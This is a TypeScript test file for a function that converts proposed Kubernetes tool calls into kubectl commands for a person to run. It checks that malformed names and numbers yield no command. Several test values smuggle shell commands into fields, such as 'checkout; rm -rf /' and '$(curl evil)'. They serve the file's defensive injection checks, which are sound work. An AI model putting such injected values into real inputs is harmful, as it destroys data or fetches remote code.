// Advice a person carries out: the command does exactly what the proposal's tool call does, and a
// name that is not a plain Kubernetes name is never pasted into a shell command.
import { describe, expect, it } from 'vitest';
import { humanCommand } from '../../src/governance/human-command.ts';

const call = (tool: string, args: Record<string, unknown>) => ({ tool_call: { server: 'kubernetes', tool, args } });

describe('humanCommand', () => {
  it('scales, rolls back, cordons and drains with kubectl', () => {
    expect(humanCommand(call('scale_deployment', { namespace: 'acme-prod', deployment: 'checkout', replicas: 12 }))).toBe('kubectl -n acme-prod scale deployment/checkout --replicas=12');
    expect(humanCommand(call('rollback_deployment', { namespace: 'acme-prod', deployment: 'checkout', to_revision: 1 }))).toBe('kubectl -n acme-prod rollout undo deployment/checkout --to-revision=1');
    expect(humanCommand(call('cordon_node', { node: 'node-a', drain: true }))).toBe('kubectl drain node-a --ignore-daemonsets --delete-emptydir-data');
    expect(humanCommand(call('cordon_node', { node: 'node-a' }))).toBe('kubectl cordon node-a');
  });

  it("moves an HPA's bounds and sets a container's resources with kubectl, quantities checked", () => {
    expect(humanCommand(call('set_hpa_bounds', { namespace: 'acme-prod', hpa: 'checkout', deployment: 'checkout', min_replicas: 12, max_replicas: 20 }))).toBe(
      `kubectl -n acme-prod patch hpa/checkout --type=merge -p '{"spec":{"minReplicas":12,"maxReplicas":20}}'`,
    );
    expect(humanCommand(call('patch_resource_limits', { namespace: 'acme-prod', deployment: 'checkout', container: 'app', requests: { cpu: '750m' }, limits: { cpu: '1500m', memory: '3Gi' } }))).toBe(
      'kubectl -n acme-prod set resources deployment/checkout -c app --requests=cpu=750m --limits=cpu=1500m,memory=3Gi',
    );
    expect(humanCommand(call('patch_resource_limits', { namespace: 'acme-prod', deployment: 'checkout', container: 'app', limits: { memory: '3Gi; rm -rf /' } }))).toBeUndefined();
    expect(humanCommand(call('set_hpa_bounds', { namespace: 'acme-prod', hpa: 'checkout', min_replicas: '12', max_replicas: 20 }))).toBeUndefined();
  });

  it('gives none for a name a shell would read as more than a name, a bad number, or a tool with no one-line equivalent', () => {
    expect(humanCommand(call('scale_deployment', { namespace: 'acme-prod', deployment: 'checkout; rm -rf /', replicas: 12 }))).toBeUndefined();
    expect(humanCommand(call('scale_deployment', { namespace: '$(curl evil)', deployment: 'checkout', replicas: 12 }))).toBeUndefined();
    expect(humanCommand(call('scale_deployment', { namespace: 'acme-prod', deployment: 'checkout', replicas: -1 }))).toBeUndefined();
    expect(humanCommand(call('scale_deployment', { namespace: 'acme-prod', deployment: 'checkout', replicas: '12' }))).toBeUndefined();
    expect(humanCommand(call('update_config', { namespace: 'acme-prod', name: 'cache' }))).toBeUndefined();
  });
});
